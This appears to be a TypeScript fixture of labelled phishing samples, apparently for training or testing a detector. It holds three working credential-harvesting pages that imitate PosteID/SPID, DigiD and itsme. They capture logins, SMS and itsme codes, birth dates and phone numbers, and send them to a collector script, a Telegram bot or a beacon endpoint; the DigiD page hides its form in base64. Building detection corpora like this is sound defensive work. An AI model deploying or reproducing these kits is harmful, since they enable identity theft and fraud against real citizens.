import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { apk, beepWav, cfb, cssRoute, fileRoute, iso, jsonRoute, jsRoute, lnk, pe, pngRoute, zip } from '../parts/e-bin.js';
import { articleCss, b64, bankOptions, cardCss, cardJs, cookieBar, digits, doc, esc, hex, mark } from '../parts/yg-kit.js';

export const entries: Entry[] = [
{
  id: 'yg-spid-posteid-sms-otp',
  label: 'phishing',
  kind: 'spid-idp-kit',
  url: 'https://accesso.posteid-verifica.com/spid/login.php?SAMLRequest=fZFNT8MwDIb&RelayState=ss%3Amem%3A7e1a',
  body: doc({
    lang: 'it',
    title: 'PosteID abilitato a SPID - Accedi',
    css: cardCss('#0047bb', '#eef2f8', "'Titillium Web', Arial, sans-serif") + `
.spidbar{background:#0066cc;color:#fff;padding:10px 24px;font-size:14px;display:flex;align-items:center;gap:10px}
.spidbar b{font-size:18px;letter-spacing:.5px}
.logo{display:flex;align-items:center;gap:10px;font-weight:700;color:#0047bb;font-size:20px}
.steps{display:flex;gap:6px;margin-bottom:18px}.steps span{flex:1;height:4px;background:#d6dce6;border-radius:2px}.steps span.on{background:#0047bb}
.sp{font-size:12px;color:#555;border-top:1px solid #eee;margin-top:22px;padding-top:14px}`,
    body: `<div class="spidbar"><b>SPID</b> Sistema Pubblico di Identità Digitale</div>
<div class="top"><div class="logo">${mark('P', '#ffcc00', 34, '#0047bb')} PosteID</div><nav><a href="#">Assistenza</a><a href="#">Come funziona</a></nav></div>
<div class="wrap">
 <div class="card" id="s1">
  <div class="steps"><span class="on"></span><span></span><span></span></div>
  <h1>Entra con PosteID</h1>
  <p class="sub">Il servizio <b>INPS - Prestazioni e servizi</b> richiede l'accesso con livello di sicurezza SPID 2.</p>
  <form id="f1" autocomplete="off">
   <label for="u">Nome utente (indirizzo email)</label><input type="email" id="u" name="username" required>
   <label for="p">Password</label><input type="password" id="p" name="password" required>
   <div class="err" id="e1">Credenziali non valide. Riprova.</div>
   <button class="btn" type="submit">Entra con SPID</button>
  </form>
  <p class="muted" style="margin-top:14px"><a href="#">Hai dimenticato la password?</a> · <a href="#">Non hai SPID?</a></p>
  <div class="sp">Il servizio richiede l'autorizzazione all'invio dei seguenti dati: nome, cognome, codice fiscale, indirizzo email, numero di cellulare.</div>
 </div>
 <div class="card" id="s2" style="display:none">
  <div class="steps"><span class="on"></span><span class="on"></span><span></span></div>
  <h1>Autorizza l'accesso</h1>
  <p class="sub">Abbiamo inviato un codice di conferma via SMS al numero associato al tuo PosteID. Inseriscilo per completare l'accesso.</p>
  <form id="f2"><label for="o">Codice SMS</label><input type="text" id="o" name="otp" inputmode="numeric" maxlength="6" required>
  <label for="c">Cellulare associato</label><input type="tel" id="c" name="cell" placeholder="+39" required>
  <button class="btn" type="submit">Autorizza</button></form>
  <div class="spin" id="sp"></div>
 </div>
</div>
<div class="foot">© Poste Italiane S.p.A. 2025 - Partita iva n. 01114601006 <a href="#">Privacy</a><a href="#">Cookie</a></div>
<script>
(function(){
 var sid='${hex('yg-spid-sid', 24)}';
 function send(step,data){data.step=step;data.sid=sid;data.ua=navigator.userAgent;return fetch('next.php',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:new URLSearchParams(data).toString()}).catch(function(){})}
 document.getElementById('f1').addEventListener('submit',function(e){e.preventDefault();var u=this.username.value,p=this.password.value;send('login',{u:u,p:p}).then(function(){document.getElementById('s1').style.display='none';document.getElementById('s2').style.display='block'})});
 document.getElementById('f2').addEventListener('submit',function(e){e.preventDefault();document.getElementById('sp').style.display='block';send('otp',{o:this.otp.value,c:this.cell.value}).then(function(){setTimeout(function(){location.href='https://www.poste.it/'},2500)})});
})();
</script>`,
  }),
  routes: {
    'accesso.posteid-verifica.com/spid/next.php': jsonRoute({ ok: 1 }),
  },
},
{
  id: 'yg-digid-verlopen-bankkeuze',
  label: 'phishing',
  kind: 'digid-kit',
  url: 'https://digid-vernieuwen.mijnoverheid-portaal.com/inloggen/',
  body: doc({
    lang: 'nl',
    title: 'DigiD | Inloggen',
    css: `body{margin:0;font-family:RijksoverheidSans,Verdana,Arial,sans-serif;background:#fff;color:#000}
.ro{display:flex;justify-content:center;padding-top:0}.ro .lint{background:#154273;width:44px;height:76px}
.ro .woord{padding:18px 10px 0;font-size:14px;line-height:1.2}
.bar{background:#e17000;height:8px}
main{max-width:560px;margin:26px auto;padding:0 16px}
h1{font-size:26px;color:#000}
.tabs{display:flex;border-bottom:2px solid #e17000;margin:18px 0}.tabs a{padding:10px 16px;text-decoration:none;color:#154273}.tabs a.on{background:#e17000;color:#fff}
label{display:block;font-weight:bold;margin:16px 0 6px}
input,select{width:100%;padding:9px;border:1px solid #8c8c8c;font-size:16px;box-sizing:border-box}
button{background:#e17000;color:#fff;border:0;padding:10px 22px;font-size:16px;margin-top:20px;cursor:pointer}
.melding{background:#fff5e6;border:1px solid #e17000;padding:12px 14px;margin:12px 0}`,
    body: `<div class="ro"><div class="lint"></div><div class="woord">Rijksoverheid<br><small>DigiD</small></div></div><div class="bar"></div>
<main id="app"></main>
<script>
document.getElementById('app').innerHTML=decodeURIComponent(escape(atob('${b64(`<h1>Inloggen bij DigiD</h1>
<div class="melding"><b>Let op:</b> uw DigiD verloopt binnenkort. U moet uw account opnieuw activeren om toegang te houden tot Mijn Belastingdienst, MijnOverheid en uw zorgverzekeraar.</div>
<div class="tabs"><a href="#">Met de DigiD app</a><a class="on" href="#">Met gebruikersnaam en wachtwoord</a></div>
<form id="d1"><label for="gb">Gebruikersnaam</label><input id="gb" name="gebruikersnaam" autocomplete="username" required>
<label for="ww">Wachtwoord</label><input id="ww" name="wachtwoord" type="password" required>
<button type="submit">Inloggen</button></form>
<div id="d2" style="display:none"><h2>Identiteit bevestigen</h2><p>Voor het heractiveren van uw DigiD controleren wij uw identiteit via uw bank. Kies uw bank. Er wordt <b>geen geld</b> afgeschreven.</p>
<form id="d2f"><label>Uw bank</label><select name="bank" required><option value="">Kies uw bank...</option>${bankOptions()}</select>
<label>Geboortedatum</label><input name="gd" placeholder="dd-mm-jjjj" required>
<label>Mobiel nummer</label><input name="tel" type="tel" required>
<button type="submit">Verder</button></form></div>`)}')));
var T='7694411208:AAE${hex('digid-bot', 30)}',C='-100${hex('digid-chat', 10).replace(/[a-f]/g, '7')}';
function tg(t){return fetch('https://api.telegram.org/bot'+T+'/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:C,text:t,parse_mode:'HTML'})})}
document.getElementById('d1').onsubmit=function(e){e.preventDefault();tg('DigiD\\nU: '+this.gebruikersnaam.value+'\\nP: '+this.wachtwoord.value).finally(function(){document.getElementById('d1').style.display='none';document.getElementById('d2').style.display='block'})};
document.getElementById('d2f').onsubmit=function(e){e.preventDefault();var b=this.bank.value;tg('Bank: '+b+'\\nGD: '+this.gd.value+'\\nTel: '+this.tel.value).finally(function(){location.href='../bank/'+b.toLowerCase()+'.php'})};
</script>`,
  }),
},
{
  id: 'yg-itsme-code-vlaams',
  label: 'phishing',
  kind: 'itsme-kit',
  url: 'https://mijn-itsme.be-verificatie.com/nl/bevestig',
  body: doc({
    lang: 'nl-BE',
    title: 'itsme® | Bevestig je identiteit',
    css: `body{margin:0;background:#ff4612;font-family:Montserrat,Arial,sans-serif;color:#1a1a1a}
.box{background:#fff;max-width:400px;margin:60px auto;border-radius:16px;padding:34px 30px;box-shadow:0 10px 40px rgba(0,0,0,.15)}
.brand{font-weight:800;font-size:30px;color:#ff4612;letter-spacing:-1px}.brand sup{font-size:12px}
h1{font-size:20px;margin:18px 0 8px}p{color:#555;font-size:14px}
input{width:100%;box-sizing:border-box;padding:13px;border:2px solid #eee;border-radius:10px;font-size:17px;margin-top:10px}
input:focus{border-color:#ff4612;outline:0}
.code{display:flex;gap:8px;margin-top:10px}.code input{text-align:center;font-size:24px;padding:10px 0}
button{width:100%;margin-top:22px;padding:14px;border:0;border-radius:30px;background:#1a1a1a;color:#fff;font-size:16px;font-weight:700}
.small{font-size:12px;color:#999;text-align:center;margin-top:18px}`,
    body: `<div class="box">
<div class="brand">itsme<sup>®</sup></div>
<div id="a">
<h1>Bevestig je identiteit</h1>
<p>Door een update van de beveiligingsrichtlijnen (PSD2) moet je je itsme-account opnieuw koppelen aan je bank. Zonder bevestiging wordt je account op <b id="dt"></b> gedeactiveerd.</p>
<input type="tel" id="gsm" placeholder="Je gsm-nummer (+32 4xx xx xx xx)">
<input type="text" id="gd" placeholder="Geboortedatum (dd/mm/jjjj)">
<button onclick="stap2()">Volgende</button>
</div>
<div id="b" style="display:none">
<h1>Voer je itsme-code in</h1>
<p>Geef je 5-cijferige itsme-code in om de koppeling te bevestigen.</p>
<div class="code"><input maxlength="1" inputmode="numeric"><input maxlength="1" inputmode="numeric"><input maxlength="1" inputmode="numeric"><input maxlength="1" inputmode="numeric"><input maxlength="1" inputmode="numeric"></div>
<button onclick="stap3()">Bevestigen</button>
</div>
<div id="c" style="display:none"><h1>Even geduld...</h1><p>We controleren je gegevens. Sluit deze pagina niet. Je ontvangt zo een bevestigingsverzoek in je itsme-app.</p></div>
<div class="small">© itsme - Belgian Mobile ID NV/SA</div>
</div>
<script>
var d=new Date(Date.now()+86400000*2);document.getElementById('dt').textContent=d.toLocaleDateString('nl-BE');
var K={gsm:'',gd:''};
function post(o){o.t=Date.now();navigator.sendBeacon('/api/collect.php',JSON.stringify(o))}
function stap2(){K.gsm=document.getElementById('gsm').value;K.gd=document.getElementById('gd').value;if(K.gsm.length<9){alert('Ongeldig gsm-nummer');return}post({s:1,gsm:K.gsm,gd:K.gd});document.getElementById('a').style.display='none';document.getElementById('b').style.display='block'}
document.querySelectorAll('.code input').forEach(function(i,n,all){i.addEventListener('input',function(){if(i.value&&all[n+1])all[n+1].focus()})});
function stap3(){var c='';document.querySelectorAll('.code input').forEach(function(i){c+=i.value});post({s:2,gsm:K.gsm,code:c});document.getElementById('b').style.display='none';document.getElementById('c').style.display='block';setInterval(function(){fetch('/api/status.php?gsm='+encodeURIComponent(K.gsm)).then(function(r){return r.json()}).then(function(j){if(j.go)location.href=j.go})},4000)}
</script>`,
  }),
  routes: {
    'mijn-itsme.be-verificatie.com/api/status.php': jsonRoute({ go: null, wait: true }),
  },
},
];
